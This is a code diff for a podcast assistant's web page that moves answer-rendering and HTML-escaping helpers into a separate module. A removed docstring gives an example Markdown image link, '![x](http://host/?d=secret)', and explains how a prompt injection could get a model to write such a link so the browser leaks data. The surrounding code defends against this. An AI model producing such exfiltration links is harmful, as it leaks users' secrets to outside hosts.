@@ -12,9 +12,7 @@ holds per session on the server, so people using the page at once never share hi
 
 from __future__ import annotations
 
-import html
 import logging
-import re
 import uuid
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -26,7 +24,15 @@ from starlette.middleware import Middleware
 from assistant.api import Assistant, clean_question
 from assistant.config import Settings
 from assistant.errors import FilterError, IndexFailure, InputError
-from assistant.schema import Answer, Citation, Turn
+from assistant.schema import Answer, Turn
+from assistant.surfaces.answer_html import (
+    THINKING,
+    escape_text,
+    inert,
+    render_answer,
+    render_notice,
+    render_partial,
+)
 from assistant.text import shorten
 
 logger = logging.getLogger(__name__)
@@ -55,12 +61,10 @@ EXAMPLES = [
     "Who is moving to London?",
 ]
 
-THINKING = '<span class="ea-thinking">Searching the episodes…</span>'
 APOLOGY = (
     "Sorry, something went wrong while answering that. Please try again in a moment; "
     "the rest of the page still works."
 )
-MARKER = re.compile(r"\[(\d+)\]")
 # Images only from the page's own server (its icons) or inline: nothing a Markdown image or an
 # injected tag names elsewhere is fetched, whichever text it came in. Sent as a response header:
 # Gradio's ``head=`` is added to the page by script, and Chromium ignored a policy put there.
@@ -135,7 +139,7 @@ def status_text(assistant: Assistant) -> str:
         answerer = describe_answerer(assistant.pipeline.name)
     except Exception as exc:  # the page must open even when the index cannot be read
         logger.warning("status unavailable: %s", exc)
-        return f"Index unavailable: {_text(str(exc))}"
+        return f"Index unavailable: {escape_text(str(exc))}"
     labels = {e.label for e in manifest.episodes if e.kind == "transcript"}
     others = sum(1 for e in manifest.episodes if e.kind != "transcript")
     indexed = _plural(len(labels), "episode")
@@ -146,136 +150,6 @@ def status_text(assistant: Assistant) -> str:
 
 def _plural(n: int, word: str) -> str:
     return f"{n} {word}" if n == 1 else f"{n} {word}s"
-
-
-# --- rendering an answer ------------------------------------------------------------------------
-#
-# The answer text is Markdown (an LLM may use lists or emphasis); the sources are HTML built here
-# from index metadata, every corpus string escaped. Each answer gets its own anchor prefix so
-# marker [2] of the third answer links to that answer's source 2, not the first answer's.
-
-
-def _text(value: str) -> str:
-    """Corpus or user text made safe as HTML element content."""
-    return html.escape(value, quote=False)
-
-
-def _attr(value: str) -> str:
-    """Text made safe inside a double-quoted HTML attribute."""
-    return html.escape(value, quote=True)
-
-
-def _anchor(prefix: str, n: int) -> str:
-    return f"{prefix}-{n}"
-
-
-def inert(text: str) -> str:
-    """Markdown that loads nothing: no images, no raw HTML.
-
-    ``![x](http://host/?d=secret)`` in a model's answer, a quoted passage or a user's message
-    made the browser fetch that URL as the answer streamed: a channel out for whatever a
-    prompt injection gets the model to write. Image syntax is shown as text, and so is any
-    HTML tag (the page's sanitizer keeps ``<img src=…>``); the page's Content-Security-Policy
-    refuses images from anywhere else as well (``ImagesPolicy``).
-    """
-    return text.replace("<", "&lt;").replace("![", "!\\[")
-
-
-def render_markers(text: str, prefix: str, citations: list[Citation] | None = None) -> str:
-    """``[n]`` markers as numbered badges linking to source ``n`` of the same answer (the
-    text made inert first: see ``inert``)."""
-    text = inert(text)
-    headings = {c.n: c.heading() for c in citations or []}
-
-    def badge(match: re.Match[str]) -> str:
-        n = int(match.group(1))
-        title = _attr(headings.get(n, f"Source {n}"))
-        return (
-            f'<a class="ea-cite" href="#{_anchor(prefix, n)}" title="{title}" '
-            f'aria-label="source {n}">{n}</a>'
-        )
-
-    return MARKER.sub(badge, text)
-
-
-def render_source(citation: Citation, prefix: str) -> str:
-    """One source: number, episode and title, chapter, timestamp (a link when the episode
-    has a URL), speaker, and the quoted words. One line of HTML, so Markdown leaves it alone."""
-    e = _text  # every string here comes from the corpus
-    kind = ' <span class="ea-kind">article</span>' if citation.kind == "article" else ""
-    meta = []
-    if citation.chapter:
-        meta.append(f'<span class="ea-chapter">{e(citation.chapter)}</span>')
-    if citation.timestamp:
-        # The chapter's start is exact; "≈05:12" says where in it the words likely are.
-        stamp = e(citation.when or citation.timestamp)
-        at = citation.estimate or citation.timestamp
-        if citation.url:
-            stamp = (
-                f'<a class="ea-time" href="{_attr(citation.url)}" target="_blank" '
-                f'rel="noopener noreferrer" title="Open the episode at {_attr(at)}">'
-                f"{stamp}</a>"
-            )
-        else:
-            stamp = f'<span class="ea-time">{stamp}</span>'
-        meta.append(stamp)
-    elif citation.url:
-        meta.append(
-            f'<a class="ea-time" href="{_attr(citation.url)}" target="_blank" '
-            'rel="noopener noreferrer">open</a>'
-        )
-    if citation.speaker:
-        meta.append(f'<span class="ea-speaker">{e(citation.speaker)}</span>')
-    quote = " ".join(citation.quote.split())
-    return (
-        f'<li class="ea-source" id="{_anchor(prefix, citation.n)}">'
-        f'<span class="ea-num">{citation.n}</span><div class="ea-body">'
-        f'<div class="ea-head"><span class="ea-ep">{e(citation.episode)}</span>{kind} '
-        f'<span class="ea-title">{e(citation.episode_title)}</span></div>'
-        f'<div class="ea-meta">{" · ".join(meta)}</div>'
-        f'<blockquote class="ea-quote">“{e(quote)}”</blockquote></div></li>'
-    )
-
-
-def render_sources(citations: list[Citation], prefix: str, title: str = "Sources") -> str:
-    """The numbered source list shown under an answer (empty string when there are none)."""
-    if not citations:
-        return ""
-    items = "".join(render_source(c, prefix) for c in citations)
-    return (
-        f'<div class="ea-sources"><div class="ea-sources-title">{_text(title)}</div>'
-        f'<ol class="ea-list">{items}</ol></div>'
-    )
-
-
-def render_notice(text: str, kind: str = "notice") -> str:
-    """A highlighted one-line message: a fallback notice, or a friendly error."""
-    return f'<div class="ea-{kind}">{_text(text)}</div>'
-
-
-def render_partial(text: str, prefix: str) -> str:
-    """The answer so far, while it streams."""
-    return render_markers(text.strip(), prefix) or THINKING
-
-
-def render_answer(answer: Answer, prefix: str) -> str:
-    """The finished answer: notice, text with linked markers, and its sources or see-also."""
-    parts = []
-    if answer.notice:
-        parts.append(render_notice(answer.notice))
-    parts.append(render_markers(answer.text, prefix, answer.citations))
-    if answer.standalone_question and answer.standalone_question != answer.question:
-        # Shows that a follow-up was read in the light of the conversation, and how.
-        parts.append(
-            '<div class="ea-followup">Follow-up, searched as: '
-            f"“{_text(shorten(answer.standalone_question, 300))}”</div>"
-        )
-    if answer.abstained:
-        parts.append(render_sources(answer.see_also, prefix + "s", "See also: closest passages"))
-    else:
-        parts.append(render_sources(answer.citations, prefix))
-    # Blank lines keep Markdown paragraphs and HTML blocks apart.
-    return "\n\n".join(p for p in parts if p)
 
 
 def friendly_error(exc: BaseException) -> str:
